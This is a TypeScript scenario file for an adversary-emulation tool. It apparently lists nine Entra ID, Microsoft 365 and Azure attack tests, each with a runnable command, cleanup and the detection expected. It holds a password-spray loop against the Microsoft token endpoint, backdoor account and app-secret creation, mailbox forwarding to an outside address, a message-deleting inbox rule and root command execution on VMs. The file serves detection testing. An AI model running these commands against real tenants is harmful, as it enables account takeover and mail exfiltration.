import { alerted, logged, prevented, type StarterScenario } from './shape.ts';

export const microsoftCloud: StarterScenario = {
  name: 'Entra ID, Microsoft 365 and Azure',
  description:
    'From a guessed password to a mailbox that forwards and a command on a machine. Needs a tenant of the exercise, or the consent of those who run yours; accounts, mailboxes and machines are made for it.',
  tags: ['cloud', 'entra id', 'microsoft 365', 'azure'],
  tests: [
    {
      key: 'entra-password-spray',
      technique: 'T1110.003',
      name: 'One password against many accounts of the tenant',
      description:
        'One wrong password is tried once for each account of a list, at the endpoint that old programs sign in at.',
      objective: 'Find an account whose password can be guessed and that has no second factor.',
      procedure:
        'Agree on the accounts with their owners and put them into accounts.txt, one a line. Once each is enough: more would lock them. Run the command in PowerShell 7.',
      command:
        "Get-Content accounts.txt | ForEach-Object {\n  $body = @{ client_id = '04b07795-8ddb-461a-bbee-02f9e1bf7b46'; scope = 'https://graph.microsoft.com/.default'; grant_type = 'password'; username = $_; password = 'Winter-is-coming-1' }\n  $answer = Invoke-RestMethod -Method Post -Uri 'https://login.microsoftonline.com/#{tenant_domain}/oauth2/v2.0/token' -Body $body -SkipHttpErrorCheck\n  \"$_ $($answer.error_codes)\"\n  Start-Sleep -Seconds 5\n}",
      cleanup_command: null,
      expected_detection:
        'Entra sign-in log: error 50126 for many accounts from one address within minutes, by an application that few use; a risk detection “password spray”; refused by conditional access.',
      platforms: ['entra id'],
      opsec: 'medium',
      tags: ['accounts'],
      expectations: [alerted('high', 60), logged],
      variables: { tenant_domain: 'exercise.example' },
    },
    {
      key: 'entra-device-code',
      technique: 'T1078.004',
      name: 'Sign-in with a device code from elsewhere',
      description:
        'The exercise account signs in to the command line of Azure with a code that is typed on another device, as in phishing for codes.',
      objective: 'Use an account without ever having its password.',
      procedure:
        'Run the command on a host outside of your network, and type the code it shows into a browser that is signed in with the exercise account. Note both addresses and the time.',
      command: 'az login --tenant #{tenant_domain} --use-device-code --allow-no-subscriptions',
      cleanup_command: 'az logout',
      expected_detection:
        'Entra sign-in log: authentication protocol “device code” by a person who has no need of it, from an address that is new for the account; refused by conditional access.',
      platforms: ['entra id'],
      opsec: 'medium',
      tags: ['accounts', 'social engineering'],
      expectations: [prevented, alerted('high', 60)],
      variables: { tenant_domain: 'exercise.example' },
    },
    {
      key: 'entra-directory',
      technique: 'T1069.003',
      name: 'List who has which role in the tenant',
      description:
        'Accounts, roles of the directory and their members are read with the command line of Azure.',
      objective: 'Find the administrators, and accounts that are one by accident.',
      procedure:
        'Sign in with az login as the exercise account, without any role. Run the commands and keep the output.',
      command:
        'az ad user list --query "[].userPrincipalName" --output tsv\naz rest --method get --url "https://graph.microsoft.com/v1.0/directoryRoles?\\$expand=members" --query "value[].[displayName, length(members)]" --output table',
      cleanup_command: null,
      expected_detection:
        'Microsoft Graph activity log: reads of /users and /directoryRoles by an account that never did so; sign-in to the application Microsoft Azure CLI by a person of the business.',
      platforms: ['entra id'],
      opsec: 'low',
      tags: ['discovery burst'],
      expectations: [logged],
    },
    {
      key: 'entra-new-account',
      technique: 'T1136.003',
      name: 'New account in the tenant',
      description:
        'An account is made with a random password that nobody sees. It gets no role and no licence.',
      objective: 'Have an account that survives a change of passwords.',
      procedure:
        'Run the command with an identity that may make accounts. Do not sign in with the new one. Clean up once blue has looked.',
      command:
        'az ad user create --display-name "Damson Exercise" --user-principal-name damson.exercise@#{tenant_domain} --password "$(openssl rand -base64 24)" --query id --output tsv',
      cleanup_command: 'az ad user delete --id damson.exercise@#{tenant_domain}',
      expected_detection:
        'Entra audit log: “Add user” outside of the tool and the hours in which accounts are made here.',
      platforms: ['entra id'],
      opsec: 'medium',
      tags: ['accounts', 'needs administration'],
      expectations: [alerted('medium', 30), logged],
      variables: { tenant_domain: 'exercise.example' },
    },
    {
      key: 'entra-application-secret',
      technique: 'T1098.001',
      name: 'Second secret for an application',
      description: 'A secret is added to an application of the exercise. It is thrown away at once.',
      objective: 'Sign in as an application, which no second factor stops.',
      procedure:
        'Register an application for the exercise, without permissions, and put its id in for #{app_id}. The command prints that id and not the secret.',
      command:
        'az ad app credential reset --id #{app_id} --append --display-name damson-exercise --query appId --output tsv',
      cleanup_command:
        'for key in $(az ad app credential list --id #{app_id} --query "[?displayName==\'damson-exercise\'].keyId" --output tsv); do az ad app credential delete --id #{app_id} --key-id "$key"; done',
      expected_detection:
        'Entra audit log: “Update application – Certificates and secrets management” by a person who does not own the application.',
      platforms: ['entra id'],
      opsec: 'medium',
      tags: ['persistence', 'needs administration'],
      expectations: [alerted('high', 30), logged],
      variables: { app_id: '00000000-0000-0000-0000-000000000000' },
    },
    {
      key: 'mailbox-forwarding',
      technique: 'T1114.003',
      name: 'Mailbox that forwards to the outside',
      description: 'A mailbox of the exercise forwards a copy of every message to an address outside.',
      objective: 'Read somebody’s mail without signing in again.',
      procedure:
        'Use a mailbox made for the exercise, and an address outside that is yours. Connect with Connect-ExchangeOnline. Send one message to the mailbox and note whether it got out.',
      command:
        'Set-Mailbox -Identity #{mailbox} -ForwardingSmtpAddress "smtp:#{outside_address}" -DeliverToMailboxAndForward $true',
      cleanup_command:
        'Set-Mailbox -Identity #{mailbox} -ForwardingSmtpAddress $null -DeliverToMailboxAndForward $false',
      expected_detection:
        'Unified audit log: Set-Mailbox with ForwardingSmtpAddress; the alert “Suspicious email forwarding activity”; the message held back by the outbound policy (5.7.520).',
      platforms: ['microsoft 365'],
      opsec: 'medium',
      tags: ['mail', 'powershell', 'needs administration'],
      expectations: [prevented, alerted('high', 60)],
      variables: { mailbox: 'damson.exercise@exercise.example', outside_address: 'damson@collector.example' },
    },
    {
      key: 'mailbox-hiding-rule',
      technique: 'T1564.008',
      name: 'Inbox rule that deletes messages',
      description: 'A rule deletes messages with a certain subject before their reader sees them.',
      objective: 'Keep answers and warnings from the owner of a mailbox that is misused.',
      procedure:
        'Use the mailbox of the exercise. Connect with Connect-ExchangeOnline, make the rule, send a message with the subject damson-exercise, and see it gone.',
      command:
        'New-InboxRule -Mailbox #{mailbox} -Name DamsonExercise -SubjectContainsWords "damson-exercise" -DeleteMessage $true',
      cleanup_command: 'Remove-InboxRule -Mailbox #{mailbox} -Identity DamsonExercise -Confirm:$false',
      expected_detection:
        'Unified audit log: New-InboxRule with DeleteMessage; a rule that was made from an address that the owner never used.',
      platforms: ['microsoft 365'],
      opsec: 'low',
      tags: ['mail', 'powershell'],
      expectations: [alerted('high', 60), logged],
      variables: { mailbox: 'damson.exercise@exercise.example' },
    },
    {
      key: 'azure-role-assignment',
      technique: 'T1098.003',
      name: 'Role on a resource group',
      description: 'An account of the exercise becomes a reader of a resource group.',
      objective: 'Give away rights that nobody asked for.',
      procedure:
        'Use a resource group of the exercise and an account without rights. Reader is enough: the event is the same for every role.',
      command:
        'az role assignment create --assignee #{account} --role Reader --resource-group #{resource_group}',
      cleanup_command:
        'az role assignment delete --assignee #{account} --role Reader --resource-group #{resource_group}',
      expected_detection:
        'Azure activity log: Microsoft.Authorization/roleAssignments/write by somebody who does not manage access here.',
      platforms: ['azure'],
      opsec: 'medium',
      tags: ['needs administration'],
      expectations: [alerted('medium', 30), logged],
      variables: { account: 'damson.exercise@exercise.example', resource_group: 'damson-exercise' },
    },
    {
      key: 'azure-run-command',
      technique: 'T1651',
      name: 'Command on a machine from the control plane',
      description: 'A command runs on a virtual machine as root, without any sign-in to it.',
      objective: 'Get from rights in the subscription to the inside of a machine.',
      procedure:
        'Use a Linux machine of the exercise. Keep the output, and look on the machine for what its own log has of it.',
      command:
        'az vm run-command invoke --resource-group #{resource_group} --name #{vm_name} --command-id RunShellScript --scripts "id; hostname"',
      cleanup_command: null,
      expected_detection:
        'Azure activity log: Microsoft.Compute/virtualMachines/runCommand/action; on the machine a script below /var/lib/waagent that runs as root.',
      platforms: ['azure'],
      opsec: 'medium',
      tags: ['needs administration'],
      expectations: [alerted('high', 30), logged],
      variables: { resource_group: 'damson-exercise', vm_name: 'damson-vm' },
    },
  ],
};
